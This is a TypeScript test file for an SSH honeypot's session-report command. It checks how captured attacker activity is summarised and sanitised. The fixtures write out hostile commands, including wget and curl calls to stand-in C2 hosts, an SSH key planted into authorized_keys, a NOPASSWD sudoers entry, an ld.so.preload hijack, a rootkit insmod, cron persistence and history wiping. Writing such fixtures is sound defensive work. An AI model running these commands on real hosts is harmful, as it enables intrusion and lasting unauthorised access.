import assert from "node:assert/strict";
import { randomBytes } from "node:crypto";
import { join } from "node:path";
import { test, type TestContext } from "node:test";
import { showCommand } from "../../gateway/commands/show.ts";
import { rebuildIndex } from "../../gateway/index/rebuild.ts";
import { toByteString } from "../../gateway/model/bytes.ts";
import type { Capture } from "../../gateway/model/capture.ts";
import { dataFolder, Live, putCapture, putLateFacts } from "../archivist/folder.ts";
import { Conversation, SANDBOX } from "../evidence/conversation.ts";
import { byteString } from "../evidence/indicators/byte-string.ts";
import { LOOKED_UP, NETWORK_FACTS, SUNK } from "../evidence/network-facts.ts";
import { Heard } from "./heard.ts";

async function written(
  t: TestContext,
  talk: Conversation,
  reason?: Parameters<Conversation["end"]>[0],
): Promise<{ data: string; folder: string }> {
  const data = dataFolder(t);
  const live = new Live(data, talk.session);
  live.write(talk.entries);
  return { data, folder: await live.finish(talk.end(reason)) };
}

async function shown(data: string, session: string, full = false): Promise<string> {
  const heard = new Heard();
  await showCommand(session, { data, full }, heard);
  return heard.out;
}

test("a session that did not get in is two lines", async (t) => {
  const talk = new Conversation("bbbbbbbbbbbb").hello("SSH-2.0-Go");
  for (const password of ["123456", "admin", "\x1b[2J"]) talk.password("root", password, "refused").after(10);
  const { data } = await written(t, talk, "too-many-attempts");
  const text = await shown(data, "bbbb");
  assert.equal(text.split("\n").length, 3);
  assert.match(text, /192\.0\.2\.7 did not get in: 3 attempts \(one user name, password after password/);
  assert.match(text, /the last root \/ \\x1b\[2J\)/);
  assert.match(text, /\n {2}SSH-2\.0-Go, HASSH [0-9a-f]{32}; too many attempts after 0\.1 s\n$/);
  assert.ok((await shown(data, "bbbb", true)).includes("root / 123456  refused"), "--full has each attempt");
});

test("a long session fits on a screen, and in full has everything", async (t) => {
  const talk = new Conversation("cccccccccccc").hello();
  for (let wrong = 0; wrong < 40; wrong++) talk.password("root", `wrong${wrong}`, "refused").after(700);
  talk.password("root", "right", "accepted").leased();
  const shell = talk.open();
  talk.shell(shell);
  for (let line = 0; line < 60; line++) {
    talk.gets(shell, "\x1b[?2004h# ").after(900);
    talk.sends(shell, `wget http://c2-${line}.example/${"x".repeat(300)}\r`).gets(shell, "\r\n\x1b[?2004l\r");
  }
  for (let port = 1; port < 40; port++) talk.forward("203.0.113.9", port);
  for (let place = 0; place < 50; place++)
    talk.fact({ ...LOOKED_UP, name: toByteString(Buffer.from(`n${place}.example`)) });
  for (const fact of NETWORK_FACTS) talk.fact(fact);
  const { data, folder } = await written(t, talk);
  putCapture(data, folder, {
    ...CAPTURED,
    changes: Array.from({ length: 300 }, (_, place) => ({
      ...{ kind: "A" as const, path: `/tmp/${place}-${"y".repeat(300)}`, type: "file" as const, size: place },
    })),
  });
  putLateFacts(data, folder, Array.from({ length: 20 }, (_, from) => ({ ...SUNK, from, to: { address: "203.0.113.9", port: from } }))); // prettier-ignore
  await rebuildIndex(data);
  const screen = await shown(data, "cccc");
  const lines = screen.trimEnd().split("\n");
  assert.ok(lines.length <= 50, `${lines.length} lines:\n${screen}`);
  assert.ok(Math.max(...lines.map((line) => line.length)) <= 130, screen);
  for (const part of [
    "got in at attempt 41",
    "root / right",
    "earlier attempts",
    "c2-0.example",
    "203.0.113",
  ])
    assert.ok(screen.includes(part), `${part} is missing in:\n${screen}`);
  const full = await shown(data, "cccc", true);
  for (const part of [
    "wrong0",
    "c2-59.example",
    "x".repeat(300),
    "n49.example",
    "/tmp/299-",
    "203.0.113.9:39",
  ])
    assert.ok(full.includes(part), `${part} is missing in full`);
});

test("in short, what they did to stay comes first, and nothing is cut", async (t) => {
  const talk = new Conversation("ffffffffffff").login();
  for (const command of [
    "useradd eve; echo eve:x | chpasswd; echo '* * * * * /tmp/x' | crontab -; unset HISTFILE; insmod rk.ko",
    "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f a@b' >> ~/.ssh/authorized_keys", // prettier-ignore
    "echo 'eve ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/e; echo /tmp/l.so > /etc/ld.so.preload",
  ])
    talk.exec(talk.open(), command);
  const { data } = await written(t, talk);
  const [, short = ""] = /^(In short: (?:.+\n)+)/m.exec(await shown(data, "ffff")) ?? [];
  assert.match(short, /^In short: got in as root; to stay or hide: SSH key planted, account made, password set, cron,/); // prettier-ignore
  assert.match(short.replaceAll("\n  ", " "), /, tampered; gave 3 commands\n$/);
  assert.ok(
    short.split("\n").every((line) => line.length <= 125),
    short,
  );
});

test("a program that calls itself something else, and a connect that a signal ended, are told as what they are", async (t) => {
  const talk = new Conversation("abababababab").login();
  talk.exec(talk.open(), "x");
  const by = { kind: "process", time: Date.parse("2026-11-23T02:16:00Z") * 1000, pid: 40, uid: 0 } as const;
  const run = (path: string, ...argv: string[]) => talk.fact({ ...by, did: "run", parent: 0, path: byteString(path), argv: argv.map(byteString) }); // prettier-ignore
  run("/proc/self/fd/3", "[kworker/0:1]", "-B");
  talk.fact({ ...by, did: "connect", to: { family: "inet", address: "203.0.113.50", port: 80 }, errno: 512 });
  run("/bin/bash", "-bash");
  run("./drop.sh", "/bin/sh", "./drop.sh");
  const { data } = await written(t, talk);
  const text = await shown(data, "abab", true);
  assert.match(text, /^ *\[kworker\/0:1\] -B \(truly \/proc\/self\/fd\/3\)$/m);
  assert.match(text, /^ *→ 203\.0\.113\.50:80 \(interrupted\)$/m);
  assert.match(text, /^ *-bash$/m);
  assert.match(text, /^ *\/bin\/sh \.\/drop\.sh$/m);
});

test("whatever bytes strangers sent, nothing of it reaches a terminal raw", async (t) => {
  const talk = new Conversation("dddddddddddd").hello(randomBytes(200).toString("latin1"));
  talk.password(hostile(), hostile(), "accepted").leased();
  const shell = talk.open();
  talk.shell(shell).exec(talk.open(), hostile());
  for (let line = 0; line < 50; line++) talk.sends(shell, hostile()).gets(shell, hostile()).after(100);
  talk.forward(hostile(), 1);
  const { data, folder } = await written(t, talk);
  putCapture(data, folder, {
    ...CAPTURED,
    changes: [{ kind: "A", path: `/tmp/${hostile()}`, type: "file", size: 1, linkTarget: hostile() }],
  });
  await rebuildIndex(data);
  for (const full of [false, true])
    // eslint-disable-next-line no-control-regex
    assert.doesNotMatch(await shown(data, "dddd", full), /[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\ufeff]/);
  const heard = new Heard();
  await showCommand("dddd", { data, json: true }, heard);
  JSON.parse(heard.out);
});

const CAPTURED: Capture = {
  sandbox: SANDBOX,
  sessions: [],
  source: "192.0.2.7",
  takenAt: "2026-11-23T02:20:00.000000Z",
  cut: false,
  changes: [],
};

function hostile(): string {
  return `\x1b[2J\x9b31m\xe2\x80\xae${randomBytes(40).toString("latin1")}\n\r\0\x1b]0;t\x07`;
}

test("the JSON has the client, the indicators and all that was observed", async (t) => {
  const talk = new Conversation("eeeeeeeeeeee").login();
  const command = "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f a@b' >> ~/.ssh/authorized_keys; curl http://c2.example.com/x"; // prettier-ignore
  talk.exec(talk.open(), command);
  const { data } = await written(t, talk);
  const heard = new Heard();
  await showCommand("eeee", { data: join(data), json: true }, heard);
  const whole = JSON.parse(heard.out) as {
    client: Record<string, unknown>;
    indicators: { kind: string; value: string; cites: { entry?: number }[] }[];
  };
  assert.equal(whole.client["typistRule"], "nothing-typed");
  assert.deepEqual(Object.keys(whole.client).sort(), [
    ...["algorithms", "attempts", "environment", "hassh", "keys", "rhythm", "terminals", "typist"],
    ...["typistRule", "version"],
  ]);
  const found = whole.indicators.find(({ kind }) => kind === "url");
  assert.equal(found?.value, "http://c2.example.com/x");
  assert.ok((found.cites[0]?.entry ?? 0) > 0);
  const text = await shown(data, "eeee");
  assert.match(text, /How they meant to stay\n {2}SSH key planted: SHA256:/);
  assert.match(text, /What they named\n/);
});
